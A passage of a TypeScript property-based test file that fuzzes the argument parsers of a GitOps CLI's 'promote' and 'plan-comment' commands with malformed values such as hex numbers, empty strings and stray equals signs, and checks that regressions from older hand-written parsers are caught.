  'dev', 'staging', 'prod', 'c'.repeat(40), `orders=${DIGEST_A}`, 'orders=', 'base', '=x', 'orders==', '0', '1', '2', '3', ' ', '', '0x2', '02', '2.0', '1e0', '-1', '+1', '7', 'NaN',
  '--status=0x2', '--pr=0', '--to=', 'github-actions[bot]', 'evil login', '/nonexistent/plan', '--', '-', ...FRAGMENTS.slice(0, 12),
];

/** The problems of one parse: an error not of the command's own type, or a value that left its grammar. */
function argvViolations(argv: string[], parsePromote: typeof parsePromoteArgs, parsePlan: typeof planCommentOptions): string[] {
  const env = { GH_TOKEN: 't', GITHUB_REPOSITORY: 'acme/orders', GITHUB_RUN_ID: '5' };
  const found: string[] = [];
  const given = (name: string) => argv.flatMap((a, i) => (a === `--${name}` ? [argv[i + 1]] : a.startsWith(`--${name}=`) ? [a.slice(name.length + 3)] : []));
  try {
    const options = parsePlan(argv, env, () => 'plan');
    if (options) {
      if (![0, 1, 2].includes(options.status) || !given('status').every((s) => s === String(options.status))) found.push(`plan-comment: --status ${JSON.stringify(given('status'))} read as ${options.status}`);
      if (options.pr !== undefined && !given('pr').every((p) => p === String(options.pr))) found.push(`plan-comment: --pr ${JSON.stringify(given('pr'))} read as ${options.pr}`);
      if (checkRepository(options.repo)) found.push('plan-comment: a repository outside the grammar');
    }
  } catch (e) {
    if (!(e instanceof PlanCommentError)) found.push(`plan-comment threw ${(e as Error).name}: ${(e as Error).message}`);
  }
  try {
    const options = parsePromote(argv, env);
    if (options !== 'help') {
      for (const [service, digest] of Object.entries(options.digests ?? {})) {
        if (!/^[a-z0-9]([-a-z0-9]*[a-z0-9])?$/.test(service) || !given('digest').includes(`${service}=${digest}`)) found.push(`promote: --digest read as ${service}=${digest}`);
      }
      if (given('digest').some((d) => !d?.includes('='))) found.push(`promote: accepted --digest ${JSON.stringify(given('digest'))}`);
    }
  } catch (e) {
    if (!(e instanceof PromoteError)) found.push(`promote threw ${(e as Error).name}: ${(e as Error).message}`);
  }
  return found;
}

describe('hostile argument vectors for promote and plan-comment', () => {
  const argv = fc.array(fc.constantFrom(...ARG_TOKENS), { minLength: 1, maxLength: 9 });

  test('the command\'s own error, or values in their grammar', () => {
    fc.assert(fc.property(argv, (args) => {
      expect({ args, violations: argvViolations(args, parsePromoteArgs, planCommentOptions) }).toEqual({ args, violations: [] });
    }), { numRuns: Math.max(300, TOTAL * 2) });
  });

  test('through the command line: exit 0 only for help, else one line on standard error and exit 1', async () => {
    const saved = { ...process.env };
    // The API is nowhere (a refused connection answers at once); promote finds no deploy/promotion.json.
    const dir = tempdir('gitops-fuzz-cli-');
    const cwd = process.cwd();
    process.chdir(dir);
    try {
      await fc.assert(fc.asyncProperty(argv, fc.constantFrom('promote', 'plan-comment'), async (args, command) => {
        process.env = { ...saved, GH_TOKEN: 't', GITHUB_REPOSITORY: 'acme/orders', GITHUB_API_URL: 'http://127.0.0.1:9' };
        const lines: string[] = [];
        const log = jest.spyOn(console, 'log').mockImplementation(() => undefined);
        let code: number;
        try {
          code = await cli([command, ...args], (line) => lines.push(...line.split('\n')));
        } finally {
          log.mockRestore();
        }
        const help = args.includes('-h') && code === 0;
        expect({ args, code, lines: help ? [] : lines.map((l) => l.replace(/: .*/, ': ...')) }).toEqual({ args, code: help ? 0 : 1, lines: help ? [] : [`projen-gitops ${command}: ...`] });
      }), { numRuns: Math.max(60, Math.ceil(TOTAL / 3)) });
    } finally {
      process.chdir(cwd);
      process.env = saved;
      fs.rmSync(dir, { recursive: true, force: true });
    }
  }, 300_000);

  test('known-bad: the old hand-written parsers are caught', () => {
    // What plan-comment did before: Number() for --status and --pr, '--x value' by position.
    const oldPlan: typeof planCommentOptions = (args) => {
      const values: Record<string, string> = {};
      for (let i = 0; i < args.length; i++) if (args[i].startsWith('--') && args[i] !== '--drift') values[args[i].slice(2)] = args[++i];
      return { root: 'dev', plan: '', status: Number(values.status), pr: values.pr === undefined ? undefined : Number(values.pr), repo: 'acme/orders', apiUrl: '', token: 't' };
    };
    // What promote did before: '--digest base' split on '=' into a service with no digest.
    const oldPromote: typeof parsePromoteArgs = (args) => {
      const digests: Record<string, string> = {};
      args.forEach((a, i) => {
        if (a === '--digest') {
          const [s, d] = args[i + 1].split('=');
          digests[s] = d ?? '';
        }
      });
      return { to: 'dev', digests, token: 't', apiUrl: '' };
    };
    expect(argvViolations(['--status', ' ', '--pr', '0x7'], parsePromoteArgs, oldPlan)).toEqual(['plan-comment: --status [" "] read as 0', 'plan-comment: --pr ["0x7"] read as 7']);
    expect(argvViolations(['--status', '0x2'], parsePromoteArgs, oldPlan)).toEqual(['plan-comment: --status ["0x2"] read as 2']);
    expect(argvViolations(['--digest', 'base'], oldPromote, planCommentOptions)).toEqual(['promote: --digest read as base=', 'promote: accepted --digest ["base"]']);
  });
});
